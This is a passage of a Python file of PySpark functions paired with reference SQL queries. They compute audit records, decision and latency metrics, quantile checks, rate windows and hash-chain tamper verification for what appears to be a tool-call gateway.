    end = rows.agg(F.max("ts_ms").alias("ts_ms")).select(F.explode(F.array(F.lit("request"), F.lit("response"))).alias("phase"), F.lit("allow").alias("outcome"), F.concat(F.lit("alive-"), "phase").alias("exchange_id"), "ts_ms", F.lit(None).cast("long").alias("ts"))
    later = lambda days: end.withColumn("ts_ms", F.col("ts_ms") + 86_400_000.0 * days)
    parts = [rows.where(part).drop("t") for part in thirds(rows, "t")]
    found = through_stream([*parts, later(1), later(2)], lambda stream: reports.pairs_stream(stream, "1 minute"))
    return reports.paired(found.where(~F.col("exchange_id").startswith("alive-")))


@query(SQL_AUDIT + " SELECT exchange_id, phase, outcome, tool, reason, 'r' AS ref FROM a WHERE outcome <> 'allow'")
def replay_detail(spark, sf_dir):
    return audit.deny_detail(talk_audit(spark, sf_dir))


@query(SQL_AUDIT + " SELECT (max(ts_ms) - min(ts_ms))::DOUBLE AS span_ms, count(*) AS n FROM a")
def replay_span(spark, sf_dir):
    return audit.time_span(talk_audit(spark, sf_dir))


@query(SQL_AUDIT + SQL_SCANS + " SELECT 'decisions' AS metric, phase AS label1, outcome AS label2, 'tools/call' AS label3, count(*) AS n FROM a GROUP BY ALL UNION ALL SELECT 'scanner_results', string_split(scanner, ':')[1], outcome, '', count(*) FROM s GROUP BY ALL UNION ALL SELECT 'invariant_hits', substr(scanner, 11), '', '', count(*) FROM s WHERE starts_with(scanner, 'invariant:') GROUP BY ALL")
def metrics_decisions(spark, sf_dir):
    return audit.counters(talk_audit(spark, sf_dir))


@query(SQL_AUDIT + " SELECT phase, outcome, count(*) AS n, sum(duration_ms) AS total_ms, max(duration_ms) AS max_ms FROM a GROUP BY ALL")
def metrics_latency(spark, sf_dir):
    return audit.latency(talk_audit(spark, sf_dir))


@query(SQL_TALK + " SELECT 1700000000 + conv_id * 1000 + turn AS ts, phase, 'tools/call' AS method, tool, CASE WHEN o = 'block' THEN 'deny' WHEN o = 'human_review' THEN 'human_review' WHEN masked > 0 THEN 'mutated' ELSE 'allow' END AS outcome, reason, exchange_id, caller, substr(sha256(t), 1, 12) AS payload_sha256, FALSE AS truncated, strlen(t) AS scanned_bytes, strlen(t) AS total_bytes, 'c' || conv_id AS route, CASE WHEN ask THEN 2 ELSE 1 END AS scanners FROM z")
def audit_record(spark, sf_dir):
    out = audit.record(decide_exchanges(talk_exchanges(spark, sf_dir)))
    return out.select("ts", "phase", "method", "tool", "outcome", "reason", "exchange_id", "caller", "payload_sha256", "truncated", "scanned_bytes", "total_bytes", "route", F.size("scanners").alias("scanners"))


@query(SQL_AUDIT + " SELECT phase, outcome, CASE WHEN duration_ms <= 5 THEN 5.0 WHEN duration_ms <= 50 THEN 50.0 WHEN duration_ms <= 90 THEN 90.0 END::DOUBLE AS up_to, count(*) AS n FROM a GROUP BY ALL")
def metrics_histogram(spark, sf_dir):
    return audit.histogram(talk_audit(spark, sf_dir), (5, 50, 90))


@query(SQL_AUDIT + " SELECT phase, outcome, q.share::DOUBLE AS share, count(*) AS n, TRUE AS within FROM a, (SELECT unnest([0.5, 0.9, 0.99]) AS share) q GROUP BY ALL")
def metrics_sketch(spark, sf_dir):
    """Quantiles of durations from the merged sketches of seven batches: their ranks are within 0.02 of what was asked."""
    rows = talk_audit(spark, sf_dir)
    batch = F.pmod(F.xxhash64("exchange_id"), F.lit(7))
    found = reports.quantiles(reports.durations(rows.withColumn("batch", batch), "batch"))
    ranks = rows.groupBy("phase", "outcome", "duration_ms").agg(F.count("*").alias("c"))
    ranks = ranks.join(found.withColumnRenamed("duration_ms", "found"), ["phase", "outcome"]).groupBy("phase", "outcome", "share", "n").agg(F.sum(F.when(F.col("duration_ms") < F.col("found"), F.col("c")).otherwise(0)).alias("below"), F.sum(F.when(F.col("duration_ms") <= F.col("found"), F.col("c")).otherwise(0)).alias("upto"))
    within = (F.col("below") <= (F.col("share") + 0.02) * F.col("n")) & (F.col("upto") >= (F.col("share") - 0.02) * F.col("n"))
    return ranks.select("phase", "outcome", "share", "n", within.alias("within"))


@query(SQL_AUDIT + " SELECT phase, CAST(sum(n % 4) AS BIGINT) AS redactions FROM a GROUP BY phase")
def metrics_redactions(spark, sf_dir):
    """Substitutions from the reasons of records."""
    n = (F.substring("reason", 5, 20).cast("long") % 4).cast("string")
    reason = F.when(n == "0", F.col("reason")).otherwise(F.concat(F.col("reason"), F.lit(";redaction:"), n, F.lit(" substitution(s)")))
    return audit.redactions(talk_audit(spark, sf_dir).withColumn("reason", reason))


@query("SELECT strftime(date_trunc('day', ts), '%Y-%m-%d') AS day, CAST(user_id AS VARCHAR) AS key, event_type AS tool, count(*) AS calls FROM events GROUP BY ALL HAVING count(*) > 2")
def rate_dashboard(spark, sf_dir):
    """Tools over a limit in tumbling windows; the same plan runs over a stream."""
    ev = table(spark, sf_dir, "events").select(F.col("user_id").cast("string").alias("key"), F.col("event_type").alias("tool"), F.col("ts").cast("timestamp").alias("ts"))
    return rate_windows(ev, span="1 day", most=2).select(F.date_format("window.start", "yyyy-MM-dd").alias("day"), "key", "tool", "calls")


def _chained(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = table(spark, sf_dir, "documents")
    body = F.to_json(F.struct("doc_id", "lang", "source", F.md5("text").alias("payload_sha256")))
    return audit.chain(docs.select("source", "doc_id", body.alias("record")), "source", "doc_id")


#: Lines by recursion: each holds the hash of the line before it and the hash of itself without that member.
SQL_CHAIN = """WITH RECURSIVE d AS (SELECT source, doc_id, row_number() OVER (PARTITION BY source ORDER BY doc_id) AS k, '{"doc_id": ' || doc_id || CASE WHEN lang IS NULL THEN '' ELSE ', "lang": ' || to_json(lang) END || ', ' AS head,
      '"payload_sha256": "' || md5(text) || '", "prev_hash": "' AS body, '", "source": ' || to_json(source) || '}' AS tail FROM documents),
    r AS (SELECT source, doc_id, k, head || '"line_hash": "' || substr(sha256(head || body || '0000000000000000' || tail), 1, 16) || '", ' || body || '0000000000000000' || tail AS line FROM d WHERE k = 1
      UNION ALL SELECT d.source, d.doc_id, d.k, head || '"line_hash": "' || substr(sha256(head || body || substr(sha256(line), 1, 16) || tail), 1, 16) || '", ' || body || substr(sha256(line), 1, 16) || tail FROM r JOIN d ON d.source = r.source AND d.k = r.k + 1)
    SELECT source AS stream, doc_id AS seq, line FROM r"""


@query(SQL_CHAIN)
def chain_write(spark, sf_dir):
    return _chained(spark, sf_dir)


@query("SELECT source AS stream, CAST(count(*) AS BIGINT) AS checked, CAST(0 AS BIGINT) AS unchained, min(CASE WHEN doc_id % 97 = 5 THEN doc_id END) AS broken_at, CASE WHEN min(CASE WHEN doc_id % 97 = 5 THEN doc_id END) IS NOT NULL THEN 'line_hash mismatch' END AS problem FROM documents GROUP BY source")
def chain_verify(spark, sf_dir):
    """Chains by source in which some lines are changed after they were written."""
    lines = _chained(spark, sf_dir)
    changed = F.regexp_replace("line", '"payload_sha256": "', '"payload_sha256": "0')
    return audit.verify(lines.withColumn("line", F.when(F.col("seq") % 97 == 5, changed).otherwise(F.col("line"))))


@query("SELECT count(*) AS lines, count(*) FILTER (doc_id % 10 = 3 OR doc_id % 10 = 4) AS bad FROM documents WHERE doc_id % 10 <> 7")
def audit_scan(spark, sf_dir):
    """Lines of which some are blank, broken or no object."""
    k = F.col("doc_id") % 10
    value = F.when(k == 3, "{broken").when(k == 4, "[1, 2]").when(k == 7, "  ").otherwise(F.to_json(F.struct("doc_id", F.lit("allow").alias("outcome"))))
    return audit_log.malformed(table(spark, sf_dir, "documents").select(value.alias("value")))


@query(SQL_TEXTS + f", v AS (SELECT doc_id, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS o FROM h) SELECT to_json({{'outcome': o, 'reason': scanner || ':review', 'ref': substr(sha256(CAST(doc_id AS VARCHAR)), 1, 8), 'exchange_id': CAST(doc_id AS VARCHAR)}})::VARCHAR AS body FROM v WHERE o = 'human_review'")
def review_payloads(spark, sf_dir):
    """What reviewers are told of documents that need one."""
    df = scan_texts(texts(spark, sf_dir).select("doc_id", "text"), "text")
    df = df.withColumns({"reason": F.col("decision.reason"), "ref": F.substring(F.sha2(F.col("doc_id").cast("string"), 256), 1, 8), "exchange_id": F.col("doc_id").cast("string")})
    return exchanges.review_payload(df)

